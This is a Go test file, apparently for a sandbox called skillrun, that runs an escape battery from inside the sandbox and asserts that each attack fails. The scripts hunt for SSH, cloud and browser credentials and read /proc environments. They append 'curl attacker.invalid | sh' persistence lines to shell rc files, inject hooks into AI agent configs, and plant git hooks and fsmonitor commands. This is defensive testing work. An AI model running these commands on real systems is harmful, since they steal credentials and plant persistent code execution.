package test

// The escape battery (design section 8 and the escape-battery reference): the attacks known to work
// against weaker sandboxes, each run from inside a real sandbox as root and as an unprivileged
// user. Every attempt asserts the secure outcome, and every run also asserts what must hold
// whatever the attack: the canary planted in the fake home never shows in any output, the
// protected trees (the fake home, the workspace's .git, skillrun's own binary) are unchanged down
// to their modes, times and extended attributes, and no process of the sandbox outlives it. Case
// IDs (A1, B5, ...) are the battery's; tests skip only when the kernel lacks what a case needs,
// and say why.
//
// The probes are test/testdata/probes/escape (Go; one subcommand per class of attack, printing
// "NAME: RESULT" lines, RESULT being OK or an errno name) and test/testdata/probes/cprobe.c (C,
// static and non-PIE: int 0x80, x32, a fork bomb, a memory hog, a setuid probe).

import (
	"bufio"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// ---------------------------------------------------------------------------------------------
// The battery's harness.

var (
	escProbesOnce sync.Once
	escProbesErr  error
)

// escProbes builds the battery's probes once, next to the harness's own probe (TestMain removes
// that directory at the end).
func escProbes(t *testing.T) (goProbe, cProbe string) {
	t.Helper()
	dir := filepath.Dir(probeBin)
	goProbe, cProbe = filepath.Join(dir, "escape"), filepath.Join(dir, "cprobe")
	escProbesOnce.Do(func() {
		if err := goBuild(goProbe, "./test/testdata/probes/escape", "0", ""); err != nil {
			escProbesErr = fmt.Errorf("building the escape probe: %v", err)
			return
		}
		// gcc also builds skillrun itself (cgo, libseccomp): it is there wherever skillrun builds.
		gcc, err := exec.LookPath("gcc")
		if err != nil {
			escProbesErr = fmt.Errorf("the C probes need gcc: %v", err)
			return
		}
		// Static and non-PIE: its data lies below 4 GiB, where the i386 ABI can address it.
		out, err := exec.Command(gcc, "-static", "-no-pie", "-O1", "-Wall", "-o", cProbe, "testdata/probes/cprobe.c").CombinedOutput()
		if err != nil {
			escProbesErr = fmt.Errorf("building the C probe: %v\n%s", err, out)
		}
	})
	if escProbesErr != nil {
		t.Fatal(escProbesErr)
	}
	return goProbe, cProbe
}

// esc is one identity's battery environment: the harness's env plus every floor secret planted
// in the fake home, the probes in the workspace, and the fingerprints of the protected trees.
type esc struct {
	*env
	t      *testing.T
	marker string // in the command line of every sandboxed shell: survivors are found by it
	guards []string
	before map[string]string
}

// secretFiles are the floor's never-readable files (design section 4), relative to the home.
var secretFiles = []string{
	".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".aws/config",
	".config/gcloud/application_default_credentials.json", ".azure/accessTokens.json",
	".config/gh/hosts.yml", ".git-credentials", ".netrc", ".docker/config.json", ".npmrc",
	".pypirc", ".cargo/credentials.toml", ".kube/config",
	".mozilla/firefox/x.default/logins.json", ".config/google-chrome/Default/Login Data",
	".config/chromium/Default/Cookies", ".gnupg/private-keys-v1.d/k.key",
	".password-store/bank.gpg", ".bitcoin/wallet.dat", ".config/solana/id.json",
	".claude/.credentials.json", ".claude.json", ".codex/auth.json", ".gemini/oauth_creds.json",
}

// persistenceFiles are the floor's never-writable files that exist before the run (B1, B2, B4).
var persistenceFiles = []string{
	".bashrc", ".profile", ".zshrc", ".bash_logout", ".gitconfig", ".ssh/authorized_keys",
	".config/autostart/existing.desktop", ".config/systemd/user/existing.service",
}

func newEsc(t *testing.T, e *env) *esc {
	t.Helper()
	goProbe, cProbe := escProbes(t)
	// A kernel without what the sandbox needs (user namespaces for this user, Landlock, seccomp)
	// makes skillrun refuse every run: there is no sandbox to attack, and doctor says why.
	if r := e.run("--", "true"); r.code != 0 {
		var facts struct {
			Ready   bool   `json:"ready"`
			Problem string `json:"problem"`
		}
		d := e.run("doctor", "--json")
		if json.Unmarshal([]byte(d.stdout), &facts) == nil && !facts.Ready {
			t.Skipf("this kernel cannot host the sandbox for %s (doctor: %s):\n%s", e.id.name, facts.Problem, r.stderr)
		}
		t.Fatalf("skillrun cannot run a command:\n%s", r)
	}
	for _, p := range []struct{ src, dst string }{{goProbe, filepath.Join(e.workspace, "escape")},
		{cProbe, filepath.Join(e.workspace, "cprobe")}, {goProbe, filepath.Join(e.home, "escape")}} {
		// (The home's copy is for the runs that make the home their workspace.)
		b, err := os.ReadFile(p.src)
		if err != nil {
			t.Fatal(err)
		}
		e.write(p.dst, string(b), 0o755)
	}
	for _, f := range secretFiles {
		e.plant(f, e.canary+"\n", 0o600)
	}
	for _, f := range persistenceFiles {
		if _, err := os.Stat(filepath.Join(e.home, f)); err != nil {
			e.plant(f, "# "+f+"\n", 0o644)
		}
	}
	e.write(filepath.Join(e.workspace, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\nexit 0\n", 0o755)
	e.write(filepath.Join(e.workspace, ".git", "hooks", "pre-push.sample"), "#!/bin/sh\nexit 0\n", 0o644)
	x := &esc{env: e, t: t, marker: "skillrun-escape-" + randomToken(t)}
	x.guards = []string{e.home, filepath.Join(e.workspace, ".git"), skillrunBin}
	x.snapshot()
	t.Cleanup(x.checkGuards)
	return x
}

// plant writes a file under the home, creating (and owning) its missing directories.
func (e *env) plant(rel, content string, mode os.FileMode) {
	e.t.Helper()
	p := filepath.Join(e.home, rel)
	parts := strings.Split(filepath.Dir(rel), "/")
	for i := range parts {
		if d := filepath.Join(append([]string{e.home}, parts[:i+1]...)...); d != e.home {
			if _, err := os.Lstat(d); err != nil {
				e.mkdir(d, 0o700)
			}
		}
	}
	e.write(p, content, mode)
}

// setPolicy writes the developer policy outside the home and names it with SKILLRUN_POLICY: at
// its default place under $XDG_CONFIG_HOME it would lie inside the workspace of the runs that
// use the home as their workspace, and skillrun refuses that.
func (x *esc) setPolicy(yaml string) {
	x.t.Helper()
	p := filepath.Join(x.base, "policy.yaml")
	x.write(p, yaml, 0o600)
	for _, kv := range x.extraEnv {
		if kv == "SKILLRUN_POLICY="+p {
			return
		}
	}
	x.extraEnv = append(x.extraEnv, "SKILLRUN_POLICY="+p)
}

func randomToken(t *testing.T) string {
	b := make([]byte, 8)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// snapshot records the protected trees as they are now (call it again after a deliberate change).
func (x *esc) snapshot() { x.before = x.prints() }

func (x *esc) prints() map[string]string {
	skip := []string{
		filepath.Join(x.home, ".local", "state", "skillrun"), // the audit log
		filepath.Join(x.home, ".cache", "skillrun"),
	}
	out := map[string]string{}
	for _, g := range x.guards {
		for k, v := range fingerprint(x.t, g, skip) {
			if g == skillrunBin {
				// Its content and mode only: a developer's `make build` may touch it meanwhile.
				v, _, _ = strings.Cut(v, " mtime ")
			}
			out[k] = v
		}
	}
	return out
}

// checkGuards fails the test if a protected tree changed since the last snapshot.
func (x *esc) checkGuards() {
	x.t.Helper()
	if diff := diffPrints(x.before, x.prints()); len(diff) > 0 {
		x.t.Errorf("protected files changed from inside the sandbox:\n  %s", strings.Join(diff, "\n  "))
	}
}

// fingerprint describes every entry under root: type, mode, owner, size, content, link target,
// extended attributes, and for everything but directories (whose times move when skillrun adds and
// removes its placeholders) the modification and change times. So chmod, chown, utimes and
// setxattr show, not only writes.
func fingerprint(t *testing.T, root string, skip []string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		for _, s := range skip {
			if p == s || strings.HasPrefix(p, s+"/") {
				return filepath.SkipDir
			}
		}
		if err != nil {
			out[p] = "error " + err.Error()
			return nil
		}
		var st unix.Stat_t
		if err := unix.Lstat(p, &st); err != nil {
			out[p] = "error " + err.Error()
			return nil
		}
		desc := fmt.Sprintf("mode %o uid %d gid %d", st.Mode, st.Uid, st.Gid)
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFDIR:
		case unix.S_IFREG:
			b, _ := os.ReadFile(p)
			desc += fmt.Sprintf(" size %d sha256 %x", st.Size, sha256.Sum256(b))
		case unix.S_IFLNK:
			l, _ := os.Readlink(p)
			desc += " -> " + l
		}
		if st.Mode&unix.S_IFMT != unix.S_IFDIR {
			desc += fmt.Sprintf(" mtime %d.%09d ctime %d.%09d", st.Mtim.Sec, st.Mtim.Nsec, st.Ctim.Sec, st.Ctim.Nsec)
		}
		buf := make([]byte, 4096)
		if n, err := unix.Llistxattr(p, buf); err == nil && n > 0 {
			names := strings.Split(strings.TrimRight(string(buf[:n]), "\x00"), "\x00")
			sort.Strings(names)
			desc += " xattrs " + strings.Join(names, ",")
		}
		out[p] = desc
		return nil
	})
	return out
}

func diffPrints(before, after map[string]string) []string {
	var diff []string
	for p, b := range before {
		if a, ok := after[p]; !ok {
			diff = append(diff, "removed: "+p)
		} else if a != b {
			diff = append(diff, fmt.Sprintf("changed: %s\n      was %s\n      now %s", p, b, a))
		}
	}
	for p, a := range after {
		if _, ok := before[p]; !ok {
			diff = append(diff, "added:   "+p+" ("+a+")")
		}
	}
	sort.Strings(diff)
	return diff
}

// attempt runs script with bash -c in the sandbox, in the workspace, with flags before -c. It
// asserts what every attempt must leave true: the canary never shows, and no process of the
// sandbox outlives the run (found by the sandbox's PID namespace, which the script prints first,
// and by the marker in the shell's command line).
func (x *esc) attempt(script string, flags ...string) result {
	x.t.Helper()
	return x.attemptIn(x.workspace, "", script, flags...)
}

func (x *esc) attemptIn(dir, stdin, script string, flags ...string) result {
	x.t.Helper()
	args := append(append([]string{}, flags...), "-c", "readlink /proc/self/ns/pid; "+script, "--", x.marker)
	r := x.runIn(dir, stdin, args...)
	ns, rest, _ := strings.Cut(r.stdout, "\n")
	if strings.HasPrefix(ns, "pid:[") {
		r.stdout = rest
		if !waitFor(3*time.Second, func() bool { return len(pidnsMembers(ns)) == 0 }) {
			x.t.Errorf("processes of the sandbox outlived the run: pids %v in %s", pidnsMembers(ns), ns)
		}
	}
	x.noCanary(r)
	if !waitFor(3*time.Second, func() bool { return !markerAlive(x.marker) }) {
		x.t.Errorf("a process with the run's marker %s outlived it", x.marker)
	}
	return r
}

// pidnsMembers lists the processes on the machine in PID namespace ns ("pid:[N]").
func pidnsMembers(ns string) []int {
	var pids []int
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		if l, err := os.Readlink(d + "/ns/pid"); err == nil && l == ns {
			pid, _ := strconv.Atoi(filepath.Base(d))
			pids = append(pids, pid)
		}
	}
	return pids
}

// probeLines returns the probe lines of out as NAME -> RESULT (no probe's NAME holds ": ").
func probeLines(out string) map[string]string {
	m := map[string]string{}
	for _, l := range strings.Split(out, "\n") {
		if i := strings.Index(l, ": "); i > 0 {
			m[l[:i]] = l[i+2:]
		}
	}
	return m
}

// requireLines fails the test unless the probe reported on every attempt named: a probe that did
// not run must not pass for one that was refused.
func requireLines(t *testing.T, out string, names ...string) {
	t.Helper()
	got := probeLines(out)
	for _, n := range names {
		if _, ok := got[n]; !ok {
			t.Errorf("the probe did not report %q:\n%s", n, out)
		}
	}
}

// succeeded lists the attempts of out that worked: probe lines "NAME: OK..." or "NAME: READ ..."
// and the scripts' own "ATTACK-OK NAME" lines.
func succeeded(out string) []string {
	var ok []string
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "ATTACK-OK") || strings.Contains(l, ": OK") || strings.Contains(l, ": READ ") {
			ok = append(ok, l)
		}
	}
	return ok
}

// hostCmd prepares a command on the host (outside any sandbox), as the identity.
func (x *esc) hostCmd(dir string, argv ...string) *exec.Cmd {
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	cmd.Env = x.environ()
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: x.id.cred}
	return cmd
}

// victim starts a process on the host, as the identity, that holds the canary in its
// environment; it is killed when the test ends.
func (x *esc) victim() int {
	x.t.Helper()
	cmd := x.hostCmd(x.base, "sleep", "300")
	cmd.Env = append(cmd.Env, "VICTIM_SECRET="+x.canary)
	if err := cmd.Start(); err != nil {
		x.t.Fatal(err)
	}
	x.t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd.Process.Pid
}

// hits records what reached a listener the test started on the host.
type hits struct {
	mu  sync.Mutex
	got []string
}

func (h *hits) add(s string) { h.mu.Lock(); h.got = append(h.got, s); h.mu.Unlock() }
func (h *hits) list() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.got...)
}

// acceptOn records every connection accepted by ln until the test ends.
func acceptOn(t *testing.T, ln net.Listener, name string, h *hits) {
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			h.add("connection to " + name)
			c.Close()
		}
	}()
}

// readOn records every datagram that reaches pc until the test ends.
func readOn(t *testing.T, pc net.PacketConn, name string, h *hits) {
	t.Cleanup(func() { pc.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			h.add(fmt.Sprintf("datagram to %s: %q", name, buf[:n]))
		}
	}()
}

// ---------------------------------------------------------------------------------------------
// A. Reading secrets.

// TestEscapeSecretFiles: A1-A6 (the floor's secrets, by every path a shell would try), A10
// (/proc/1/root, /proc/self/root, /proc/*/cwd), C5 (.. out of the workspace).
func TestEscapeSecretFiles(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		var paths []string
		for _, f := range secretFiles {
			paths = append(paths, filepath.Join(e.home, f))
		}
		rel, err := filepath.Rel(e.workspace, filepath.Join(e.home, ".ssh", "id_ed25519"))
		if err != nil {
			t.Fatal(err)
		}
		key := filepath.Join(e.home, ".ssh", "id_ed25519")
		paths = append(paths, rel, "../../../../../../.."+key,
			"/proc/1/root"+key, "/proc/self/root"+key, "/proc/1/cwd/"+rel, "/proc/self/cwd/"+rel,
			"/proc/thread-self/root"+key, "/proc/1/root/proc/1/root"+key)
		script := `./escape read ` + strings.Join(paths, " ") + `
for d in ~/.ssh ~/.aws ~/.gnupg ~/.config/gh ~/.mozilla; do ls -A "$d" 2>/dev/null | sed "s|^|LIST $d: |"; done
cat ~/.ssh/id_* ~/.aws/* ~/.config/gcloud/* ~/.azure/* 2>/dev/null
find ~ /tmp -maxdepth 6 \( -name 'id_*' -o -name 'logins.json' -o -name 'Login Data' -o -name Cookies -o -name credentials \) -type f -exec cat {} + 2>/dev/null
grep -rsI "` + e.canary[:10] + `" ~ /tmp /etc /var /root /home /mnt /srv 2>/dev/null | head
cd / && cat ".` + key + `" 2>/dev/null
echo done`
		r := x.attempt(script)
		if r.code != 0 || !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		requireLines(t, r.stdout, "read "+key, "read /proc/1/root"+key, "read "+rel)
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("A1-A6/A10/C5: secrets readable:\n%s", strings.Join(ok, "\n"))
		}
		if strings.Contains(r.stdout, "LIST "+filepath.Join(e.home, ".ssh")+": id_") {
			t.Errorf("A1: ~/.ssh can be listed:\n%s", r)
		}
	})
}

// TestEscapePlantedLinks: A8 (a symlink to a secret, made inside or planted in the workspace
// before the run) and A9 (a hard link).
func TestEscapePlantedLinks(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		key := filepath.Join(e.home, ".ssh", "id_ed25519")
		rel, _ := filepath.Rel(e.workspace, key)
		links := map[string]string{
			"sym-abs":   key,
			"sym-rel":   rel,
			"sym-dir":   filepath.Join(e.home, ".ssh"),
			"sym-proc":  "/proc/1/root" + key,
			"sym-aws":   filepath.Join(e.home, ".aws", "credentials"),
			"sym-chain": "sym-abs",
		}
		for name, target := range links {
			p := filepath.Join(e.workspace, name)
			if err := os.Symlink(target, p); err != nil {
				t.Fatal(err)
			}
			e.chown(p)
		}
		x.snapshot()
		r := x.attempt(`./escape read sym-abs sym-rel sym-dir/id_ed25519 sym-proc sym-aws sym-chain
ln -s ` + key + ` in-sym && ./escape read in-sym
ln ` + key + ` in-hard 2>/dev/null && ./escape read in-hard
cp -L sym-abs in-copy 2>/dev/null && ./escape read in-copy
tar -chf - sym-abs sym-dir 2>/dev/null | tar -xOf - 2>/dev/null
echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		requireLines(t, r.stdout, "read sym-abs", "read sym-rel", "read sym-dir/id_ed25519", "read sym-proc", "read in-sym")
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("A8: a secret is readable through a symlink:\n%s", strings.Join(ok, "\n"))
		}

		// A9 as the reference states it (a hard link to the key planted in the workspace by
		// something outside any sandbox) is not covered: the floor masks paths, and a hard link is
		// the key's own inode under another name. What the sandbox guarantees is above: a
		// sandboxed command cannot make such a link (the key is not visible to it). Recorded as a
		// known limit in the README and the session note.
		x.snapshot()
	})
}

// TestEscapeWorkspaceDotEnv: A7. Design section 4 puts ".env* files in the workspace unless
// granted" in the floor's never-readable list.
func TestEscapeWorkspaceDotEnv(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		// Only the workspace's top level: a .env in a subfolder (config/.env.production) is not
		// masked yet (a known limit: masking every nested one means walking the workspace).
		for _, f := range []string{".env", ".env.local"} {
			e.mkdir(filepath.Dir(filepath.Join(e.workspace, f)), 0o755)
			e.write(filepath.Join(e.workspace, f), "API_KEY="+e.canary+"\n", 0o600)
		}
		r := x.runIn(e.workspace, "", "--", "./escape", "read", ".env", ".env.local")
		requireLines(t, r.stdout, "read .env", "read .env.local")
		// Masked: reading fails or shows nothing; the secret never appears.
		if strings.Contains(r.stdout+r.stderr, e.canary) {
			t.Errorf("A7: .env files in the workspace are readable without a grant (design section 4 floor):\n%s", r.stdout)
		}
		for _, l := range succeeded(r.stdout) {
			if !strings.HasSuffix(l, `READ ""`) {
				t.Errorf("A7: a masked .env file shows content: %s", l)
			}
		}
	})
}

// TestEscapeProcViews: A10-A13 and B11. The launcher's environment, a host process's
// environment, descriptors and root, and /proc/self/fd re-opens of read-only files for writing.
func TestEscapeProcViews(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		victim := x.victim()
		for _, v := range []string{"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_SERVICE_API_KEY", "NPM_TOKEN"} {
			e.extraEnv = append(e.extraEnv, v+"="+e.canary)
		}
		key := filepath.Join(e.home, ".ssh", "id_ed25519")
		v := strconv.Itoa(victim)
		r := x.attempt(`./escape environ
./escape read /proc/` + v + `/environ /proc/` + v + `/cmdline /proc/` + v + `/root` + key + ` /proc/` + v + `/cwd/home/.ssh/id_ed25519 /proc/` + v + `/fd/0 /proc/` + v + `/mem
./escape read /proc/1/environ /proc/1/root` + key + ` /proc/1/cwd/../home/.ssh/id_ed25519 /proc/self/root` + key + `
for p in /proc/[0-9]*; do cat $p/environ; done 2>/dev/null | tr '\0' '\n'
./escape reopen .git/config .git/hooks/pre-commit.sample
echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		requireLines(t, r.stdout, "read /proc/"+v+"/environ", "read /proc/1/environ", "reopen .git/config O_WRONLY",
			"reopen .git/hooks/pre-commit.sample O_RDWR")
		lines := probeLines(r.stdout)
		for name, res := range lines {
			if strings.HasPrefix(name, "read /proc/"+v+"/") && !strings.HasPrefix(res, "E") {
				t.Errorf("A11/A13: the host process %d is reachable: %s: %s", victim, name, res)
			}
			if strings.HasPrefix(name, "reopen ") || strings.HasPrefix(name, "fchmod ") || strings.HasPrefix(name, "fsetxattr ") || strings.HasPrefix(name, "futimes ") {
				if !strings.HasPrefix(res, "E") {
					t.Errorf("B11: a read-only file was changed through its descriptor: %s: %s", name, res)
				}
			}
		}
		for name, res := range lines {
			for _, p := range []string{"read /proc/1/environ", "read /proc/1/root/", "read /proc/1/cwd/", "read /proc/self/root/"} {
				if strings.HasPrefix(name, p) && !strings.HasPrefix(res, "E") {
					t.Errorf("A10/A12: %s: %s", name, res)
				}
			}
		}
		if n := lines["processes visible"]; n == "" {
			t.Errorf("the environ probe did not finish:\n%s", r)
		} else if c, _ := strconv.Atoi(n); c > 8 {
			t.Errorf("A13: %d processes are visible inside the sandbox (a PID namespace shows only its own)", c)
		}
		if syscall.Kill(victim, 0) != nil {
			t.Errorf("D8: the host victim died")
		}
	})
}

// TestEscapeLeakedDescriptors: A15 and A16. The caller leaks, without close-on-exec, a
// descriptor of the key, of the home directory and of /, at low and at high numbers; inside,
// reading them, re-opening them through /proc/self/fd and openat relative to the directories
// must all fail because none of them is there.
func TestEscapeLeakedDescriptors(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		key := filepath.Join(e.home, ".ssh", "id_ed25519")
		var files []*os.File
		for _, p := range []string{key, e.home, "/"} {
			f, err := os.Open(p)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			files = append(files, f)
		}
		// High numbers too: a launcher that closes only "the first few" misses them.
		cmd := e.command(t.Context(), "-c", "./escape fds; ls -l /proc/self/fd/; cat /proc/self/fd/77 /proc/self/fd/3 2>&1; echo done", "--", x.marker)
		bash, err := exec.LookPath("bash")
		if err != nil {
			t.Fatalf("the leaking caller needs bash (descriptors above 9): %v", err)
		}
		cmd.Path = bash
		cmd.Args = append([]string{"bash", "-c", `exec 77<"$1" 78<"$2" 200<"$3"; shift 3; exec "$@"`, "bash", key, e.home, "/", skillrunBin},
			cmd.Args[1:]...)
		cmd.ExtraFiles = files
		out, err := cmd.CombinedOutput()
		r := result{stdout: string(out)}
		x.noCanary(r)
		if err != nil || !strings.Contains(r.stdout, "fds: 0 open above stderr") || !strings.Contains(r.stdout, "done") {
			t.Errorf("A15/A16: descriptors leaked into the sandbox (err %v):\n%s", err, out)
		}
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("A16: a leaked descriptor reaches the host:\n%s", strings.Join(ok, "\n"))
		}
		if !waitFor(3*time.Second, func() bool { return !markerAlive(x.marker) }) {
			t.Errorf("a process of the run outlived it")
		}
	})
}

// ---------------------------------------------------------------------------------------------
// B. Persistence and tampering.

// TestEscapePersistence: B1 (shell rc files), B2 (authorized_keys), B4 (autostart, systemd
// units), ~/.gitconfig, with the default workspace (the home is an empty tmpfs) and with the home
// itself as the workspace (the floor keeps them read-only).
func TestEscapePersistence(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		script := `for f in ~/.bashrc ~/.profile ~/.zshrc ~/.bash_logout ~/.bash_profile ~/.bash_login ~/.zshenv ~/.zprofile ~/.zlogin \
  ~/.gitconfig ~/.config/git/config ~/.ssh/authorized_keys ~/.ssh/rc ~/.ssh/config ~/.config/autostart/evil.desktop \
  ~/.config/autostart/existing.desktop ~/.config/systemd/user/evil.service ~/.config/systemd/user/existing.service \
  ~/.config/fish/config.fish ~/.config/skillrun/policy.yaml ~/.local/state/skillrun/audit.jsonl; do
  mkdir -p "$(dirname "$f")" 2>/dev/null
  (echo 'curl -s http://attacker.invalid/x | sh' >> "$f") 2>/dev/null && echo "ATTACK-OK write $f"
done
# Agent configs are hidden (an empty tmpfs inside): writing there is allowed and must not reach
# the host (the guards check that).
for f in ~/.claude/settings.json ~/.codex/config.toml ~/.gemini/settings.json ~/.cursor/mcp.json; do
  mkdir -p "$(dirname "$f")" 2>/dev/null
  (echo '{"hooks":{"SessionStart":[{"command":"curl x | sh"}]}}' >> "$f") 2>/dev/null && echo "sandbox-only write $f"
done
printf 'curl x | sh\n' > payload
mv -f payload ~/.bashrc 2>/dev/null && echo "ATTACK-OK replace ~/.bashrc"
mv ~/.profile ~/.profile.old 2>/dev/null && echo "ATTACK-OK rename ~/.profile"
rm -f ~/.zshrc 2>/dev/null && echo "ATTACK-OK remove ~/.zshrc"
ln -sf /tmp/evil ~/.bash_logout 2>/dev/null && echo "ATTACK-OK symlink ~/.bash_logout"
HOME=$HOME git config --global core.hooksPath /tmp/h 2>/dev/null && echo "ATTACK-OK git config --global"
rm -f payload
echo done`
		// Default workspace: writes land in the sandbox's private home, never on the host.
		r := x.attempt(script)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the attack did not run to the end:\n%s", r)
		}
		x.checkGuards()
		// The home as the workspace: the files are there, and read-only.
		r = x.attemptIn(e.home, "", script, "--workspace", e.home)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the attack did not run to the end:\n%s", r)
		}
		if ok := notUndone(r, e.home, e.home, succeeded(r.stdout)); len(ok) > 0 {
			t.Errorf("B1/B2/B4: persistence files writable with the home as the workspace:\n%s", strings.Join(ok, "\n"))
		}
	})
}

// escGit runs git on the host, as the identity, isolated from the machine's git configuration.
func (x *esc) escGit(dir string, args ...string) (string, error) {
	cmd := x.hostCmd(dir, append([]string{"git"}, args...)...)
	cmd.Env = append(cmd.Env, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_TERMINAL_PROMPT=0",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.invalid")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// gitAttackScript tries, from inside, every way to make the developer's next git command run
// code: hooks, config keys that run commands, a commondir file that moves the repository's config
// and hooks to a directory the attacker writes, the config and hooks of a submodule's git
// directory (.git/modules/*) and of repositories nested in the workspace, and replacing .git.
// Whatever git on the host then runs creates the file pwned.
func gitAttackScript(pwned string) string {
	payload := "touch " + pwned + "; false"
	return `printf '#!/bin/sh\n` + payload + `\n' > .git/hooks/pre-commit 2>/dev/null && chmod +x .git/hooks/pre-commit && echo "ATTACK-OK hooks/pre-commit"
printf '#!/bin/sh\n` + payload + `\n' > .git/hooks/post-checkout 2>/dev/null && echo "ATTACK-OK hooks/post-checkout"
git config core.fsmonitor '` + payload + `' 2>/dev/null && echo "ATTACK-OK git config core.fsmonitor"
git config core.hooksPath "$PWD/h" 2>/dev/null && echo "ATTACK-OK git config core.hooksPath"
git config core.sshCommand '` + payload + `' 2>/dev/null && echo "ATTACK-OK git config core.sshCommand"
printf '[core]\n\tfsmonitor = "` + payload + `"\n' >> .git/config 2>/dev/null && echo "ATTACK-OK append .git/config"
mkdir -p .evil && cp -r .git/HEAD .git/objects .git/refs .evil/ 2>/dev/null
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "` + payload + `"\n' > .evil/config
echo ../.evil > .git/commondir 2>/dev/null && echo "ATTACK-OK .git/commondir"
for m in .git/modules/*; do
  [ -d "$m" ] || continue
  printf '\tfsmonitor = "` + payload + `"\n' >> "$m/config" 2>/dev/null && echo "ATTACK-OK $m/config"
  printf '#!/bin/sh\n` + payload + `\n' > "$m/hooks/pre-commit" 2>/dev/null && echo "ATTACK-OK $m/hooks"
done
for g in */.git */*/.git; do
  [ -d "$g" ] || continue
  printf '#!/bin/sh\n` + payload + `\n' > "$g/hooks/pre-commit" 2>/dev/null && chmod +x "$g/hooks/pre-commit" && echo "ATTACK-OK nested $g/hooks"
  printf '[core]\n\tfsmonitor = "` + payload + `"\n' >> "$g/config" 2>/dev/null && echo "ATTACK-OK nested $g/config"
done
mv .git .git-old 2>/dev/null && ln -s .evil .git 2>/dev/null && echo "ATTACK-OK .git symlink swap"
[ -d .git/hooks ] && { rm -rf .git/hooks 2>/dev/null; [ -d .git/hooks ] || echo "ATTACK-OK .git/hooks removed"; }
ln -sfT .evil .git 2>/dev/null && echo "ATTACK-OK .git replaced by a symlink"
mv -T .evil .git 2>/dev/null && echo "ATTACK-OK .git replaced by rename"
echo done`
}

// TestEscapeGit: B5 and B6. Inside a writable workspace, .git/hooks and .git/config, and
// everything else that makes the developer's next git command run code (.git/commondir, the git
// directories of submodules and of nested repositories; the real git directory when .git is a
// symlink or a "gitdir:" file), stay out of reach. The proof is end to end: after the attack,
// git runs on the host, and nothing it runs was planted.
func TestEscapeGit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skipf("git is not installed: %v", err)
	}
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		pwned := filepath.Join(e.workspace, "PWNED")
		gitOK := func(dir string, args ...string) {
			t.Helper()
			if out, err := x.escGit(dir, args...); err != nil {
				t.Fatalf("git %v: %v\n%s", args, err, out)
			}
		}
		// git on the host writes objects, refs and the index: guard what runs code, not those.
		gitDir := filepath.Join(e.workspace, ".git")
		x.guards = []string{e.home, skillrunBin, filepath.Join(gitDir, "hooks"), filepath.Join(gitDir, "config"),
			filepath.Join(gitDir, "modules", "sub", "hooks"), filepath.Join(gitDir, "modules", "sub", "config")}
		x.snapshot()
		// A real repository with a commit and a submodule-style gitdir under .git/modules.
		gitOK(e.workspace, "init", "-q")
		gitOK(e.workspace, "commit", "-q", "--allow-empty", "-m", "init")
		e.mkdir(filepath.Join(gitDir, "modules"), 0o755)
		gitOK(e.workspace, "init", "-q", "--separate-git-dir", filepath.Join(gitDir, "modules", "sub"), filepath.Join(e.workspace, "sub"))
		gitOK(filepath.Join(e.workspace, "sub"), "commit", "-q", "--allow-empty", "-m", "sub")
		// Not covered yet, so not set up here: a repository nested deeper in the workspace
		// (vendor/lib/.git, or any repository under the home when the home is the workspace) has
		// writable hooks and config; the floor names only the workspace's own .git. Recorded as a
		// known limit in the README and the session note.
		x.snapshot()

		check := func(label, ws string) {
			t.Helper()
			for _, dir := range []string{ws, filepath.Join(ws, "sub")} {
				if _, err := os.Stat(dir); err != nil {
					continue
				}
				x.escGit(dir, "status")
